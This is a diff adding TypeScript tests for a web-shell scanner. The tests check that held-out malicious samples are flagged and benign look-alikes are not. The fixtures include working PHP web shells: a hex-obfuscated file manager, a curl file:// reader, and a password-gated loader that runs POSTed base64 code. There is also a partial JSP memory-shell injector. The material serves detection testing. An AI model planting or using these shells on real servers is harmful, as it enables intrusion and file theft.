@@ -158,3 +158,71 @@ describe('scan: held-out set J (session 25), its misses, samples of our own', ()
     assert.equal(BENIGN.length, 9);
   });
 });
+
+// Set I (session 25, held out until its one scan, made after J's fixes): its misses, written again by us.
+const hex = (s: string) => Buffer.from(s, 'latin1').toString('hex');
+const I_MALICIOUS: [string, string, string, string][] = [
+  ['function names as hex text in a table, decoded by a loop and called by element', 'mamori:hex-name-table', '/www/m.php', `<?php
+$t = array("${hex('getcwd')}", "${hex('scandir')}", "${hex('file_put_contents')}", "${hex('php_uname')}", "${hex('unlink')}");
+for ($i = 0; $i < count($t); $i++) { $t[$i] = unhex($t[$i]); }
+function unhex($h) { $o = ''; for ($j = 0; $j < strlen($h) - 1; $j += 2) { $o .= chr(hexdec($h[$j] . $h[$j + 1])); } return $o; }
+$here = isset($_GET['d']) ? $_GET['d'] : $t[0]();
+foreach ($t[1]($here) as $f) echo htmlspecialchars($f), "<br>";
+if (isset($_POST['n'])) $t[2]($here . '/' . $_POST['n'], $_POST['c']);`],
+  ['a file read through curl\'s file: scheme, its path from the query', 'mamori:curl-file-read', '/www/rd.php', `<?php
+$path = !empty($_GET['f']) ? $_GET['f'] : '/etc/hostname';
+$h = curl_init();
+curl_setopt($h, CURLOPT_URL, "file:///" . $path);
+curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
+echo '<pre>' . htmlspecialchars(curl_exec($h)) . '</pre>';`],
+  ['the request decoded, written after an opening tag, included and deleted', 'mamori:request-code-file', '/www/wp-echo.php', `<?php
+if (isset($_POST['k']) && sha1($_POST['k']) === '0123456789abcdef0123456789abcdef01234567') {
+  $body = base64_decode($_POST['b']);
+  file_put_contents('.tmp', "<?php\\n" . $body);
+  include '.tmp';
+  @unlink('.tmp');
+}`],
+  ['a JSP that hides another behind a JspServletWrapper of its own and loads its classes', 'mamori_jsp_memshell_injector', '/www/h.jsp', `<%@ page import="org.apache.jasper.servlet.JspServletWrapper, java.lang.reflect.*" %><%!
+static class Shadow extends JspServletWrapper {
+  Shadow(ServletConfig c, org.apache.jasper.Options o, String u, org.apache.jasper.compiler.JspRuntimeContext r) { super(c, o, u, r); }
+}
+static class Loader extends ClassLoader { Class make(String n, byte[] b) { return super.defineClass(n, b, 0, b.length); } }
+static Object field(Object o, String n) throws Exception { Field f = o.getClass().getDeclaredField(n); f.setAccessible(true); return f.get(o); }
+%><% Object map = field(application, "context"); %>`],
+];
+const I_BENIGN: [string, string, string][] = [
+  ['colours and hashes as hex text, handlers called by element', '/www/theme.php', `<?php
+$colors = ['ffcc00', '336699', 'a1b2c3d4', '5d41402abc4b2a76b9719d911017c592'];
+$handlers = ['save' => 'save_item'];
+$handlers[$_GET['a'] ?? 'save']($colors);`],
+  ['curl fetching an address the site configured', '/www/fetch.php', `<?php
+$h = curl_init(FEED_URL . '?page=' . (int) $_GET['p']);
+curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
+echo curl_exec($h);`],
+  ['a config cache written as PHP from the site\'s own settings, then included', '/www/cache.php', `<?php
+$settings = load_settings_from_db();
+$lang = $_GET['lang'] ?? 'en';
+file_put_contents(CACHE . '/settings.php', '<?php return ' . var_export($settings, true) . ';');
+$conf = include CACHE . '/settings.php';`],
+];
+
+describe('scan: held-out set I (session 25), its misses, samples of our own', () => {
+  for (const [name, rule, path, src] of I_MALICIOUS) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
+    });
+  }
+  for (const [name, path, src] of I_BENIGN) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
+      assert.ok(!r.findings.some((f) => /hex-name-table|curl-file-read|request-code-file/.test(f.rule)), JSON.stringify(r.findings));
+    });
+  }
+  it('ran every case', () => {
+    assert.equal(I_MALICIOUS.length, 4);
+    assert.equal(I_BENIGN.length, 3);
+  });
+});
